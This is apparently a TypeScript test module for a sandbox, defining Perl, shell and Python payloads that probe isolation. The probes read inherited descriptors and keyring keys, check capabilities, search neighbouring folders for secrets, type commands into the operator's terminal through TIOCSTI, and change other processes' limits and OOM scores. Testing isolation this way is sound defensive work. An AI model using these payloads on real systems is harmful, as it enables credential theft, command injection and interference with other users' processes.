/**
 * What a payload is started with: descriptors, powers, groups, masks, signals, keyrings and the terminal of what started it.
 */

import type { Attack, Reach, Scene } from '../attack.ts'
import { perl } from '../attack.ts'
import { perlWords, shell } from '../scripts.ts'

/** Lines that begin with `FOUND what`: what an attack names itself, beside what canaries say. */
export function foundLines(_: Scene, { text }: { readonly text: string }): readonly Reach[] {
  const lines = new Set(text.split('\n').filter((line) => line.startsWith('FOUND ')))
  return [...lines].slice(0, 3).map((line) => {
    const [, what = '', ...rest] = line.split(' ')
    return { what, evidence: rest.join(' ').slice(0, 200) }
  })
}

export const startAttacks: readonly Attack[] = [
  {
    name: 'inherited-descriptors',
    about: 'reads every descriptor that it was started with',
    reaches: 'files and sockets of the pilot',
    payload: () =>
      perl(`
        for my $fd (3..1023) {
          my $target = readlink("/proc/self/fd/$fd") // next;
          print "FOUND descriptor $fd $target\\n";
          open(my $f, "<", "/proc/self/fd/$fd") or next; sysread($f, my $text, 300000); print "$_\\n" for $text =~ /cn4ry-[a-z-]+[.][0-9a-z]{16}/g;
        }
      `),
    judge: foundLines,
  },
  {
    name: 'inherited-powers',
    about: 'looks at its capabilities, its groups and whether it could gain more',
    reaches: 'powers of the pilot',
    payload: () =>
      perl(`
        open(my $f, "<", "/proc/self/status"); my %s = map { /^(\\w+):\\s*(.*)/ } <$f>;
        open(my $m, "<", "/proc/self/uid_map"); my $map = <$m>; my $first = $map =~ /^\\s*0\\s+0\\s+4294967295/;
        # In a user namespace of its own a process may have powers over nothing: the judge of namespaces looks at other traces.
        if ($first) { for (qw(CapInh CapPrm CapEff CapAmb)) { print "FOUND capabilities $_ $s{$_}\\n" if $s{$_} =~ /[^0]/ } }
        print "FOUND groups $s{Groups}\\n" if grep { $_ != $( + 0 && $_ != 65534 } split " ", $s{Groups};
        print "FOUND new-privileges $s{NoNewPrivs}\\n" unless $s{NoNewPrivs};
      `),
    judge: foundLines,
  },
  {
    name: 'inherited-signals',
    about: 'looks at blocked and ignored signals and its mask of modes',
    reaches: 'the state of the pilot’s process',
    payload: () =>
      perl(`
        open(my $f, "<", "/proc/self/status"); my %s = map { /^(\\w+):\\s*(.*)/ } <$f>;
        for (qw(SigBlk SigIgn)) { print "FOUND signals $_ $s{$_}\\n" if $s{$_} =~ /[^0]/ }
        printf "FOUND mask %o\\n", umask if (umask & 022) != 022;
      `),
    judge: foundLines,
  },
  {
    name: 'working-directory',
    about: 'looks for files of others from where it was started, and above',
    reaches: 'the folders of the pilot and of other payloads',
    payload: (scene) =>
      shell(
        scene,
        `loot ./* ../* ../../* ../../../* /proc/self/cwd/../../*/home/secret ../../*/home/* ../../*/tmp/*; ls ../.. 2>/dev/null | grep -E '^[0-9]+[.][0-9]+$' | grep -v "^$PILOTAGE_JOB_ID[.]" | sed 's/^/FOUND other-directories /'`,
      ),
    judge: foundLines,
  },
  {
    name: 'session-keyring',
    about: 'reads the keys of the keyring that it was started with',
    reaches: 'a key of the pilot, a ticket of the neighbour',
    needs: ['x64'],
    payload: () =>
      perl(`
        for my $ring (-3, -4, -5) {
          for my $name ("pilot-key", "ticket") {
            my ($type, $n) = ("user", $name);
            my $key = syscall(250, 10, $ring, $type, $n, 0);
            next if $key < 0;
            my $buffer = " " x 500; my $size = syscall(250, 11, $key, $buffer, 500);
            print substr($buffer, 0, $size), "\\n" if $size > 0;
          }
        }
        open(my $f, "<", "/proc/keys") or exit; 
        while (<$f>) {
          my ($id) = split " "; my $buffer = " " x 500; my $size = syscall(250, 11, hex $id, $buffer, 500);
          print substr($buffer, 0, $size), "\\n" if $size > 0;
        }
      `),
  },
  {
    name: 'terminal',
    about: 'types a command into the terminal of what started it (TIOCSTI)',
    reaches: 'the operator’s shell',
    payload: () =>
      perl(`
        for my $path ("/dev/tty", "/dev/console", glob("/dev/pts/[0-9]*"), map { "/proc/self/fd/$_" } 0..2) {
          open(my $t, "+<", $path) or next;
          for my $c (split //, "id >/tmp/typed\\n") { ioctl($t, 0x5412, $c) or last; print "FOUND terminal $path\\n" }
        }
      `),
    judge: foundLines,
  },
  {
    name: 'descriptors-to-the-pilot',
    about: 'sends descriptors and control messages to the pilot over its own output',
    reaches: 'the pilot’s table of open files',
    needs: ['python3'],
    payload: () => ({
      executable: '/usr/bin/python3',
      arguments: [
        '-c',
        `
import array, os, socket
for fd in (1, 2):
    try:
        s = socket.socket(fileno=os.dup(fd))
        for _ in range(200):
            s.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 50))])
    except OSError as error:
        print("refused", error)
`,
      ],
    }),
  },
  {
    name: 'output-read-back',
    about: 'opens its own output again for reading and looks behind it',
    reaches: 'what others have written, or the pilot’s end of the pipe',
    payload: (scene) =>
      shell(
        scene,
        `for fd in 0 1 2; do timeout 1 head -c 100000 </proc/self/fd/$fd | canaries; ls -lL /proc/self/fd/$fd; done`,
      ),
  },
  {
    name: 'limits-of-the-pilot',
    about: 'changes limits, priority, processors and the killer’s score of the pilot and of the neighbour',
    reaches: 'the pilot’s share of its machine',
    needs: ['x64'],
    mode: 'alone',
    payload: (scene) =>
      perl(`
        ${perlWords(scene)}
        for my $pid (${scene.pilotPid}, map { m{/proc/(\\d+)$} && $1 != $$ && $1 > 1 ? $1 : () } glob("/proc/[0-9]*")) {
          open(my $f, "<", "/proc/$pid/cmdline"); my $c = join "", <$f>; next unless $c =~ /pilot|PASSWORD|neighbour/;
          my $limit = pack("QQ", 10000, 10000);
          print "FOUND limits-of-others $pid\\n" if syscall(302, $pid, 7, $limit, 0) == 0;
          print "FOUND priority-of-others $pid\\n" if syscall(141, 0, $pid, 19) == 0;
          if (open(my $o, ">", "/proc/$pid/oom_score_adj")) { syswrite($o, "1000") and print "FOUND score-of-others $pid\\n" }
          print "FOUND processors-of-others $pid\\n" if syscall(203, $pid, 8, pack("Q", 1)) == 0;
        }
      `),
    judge: foundLines,
  },
]
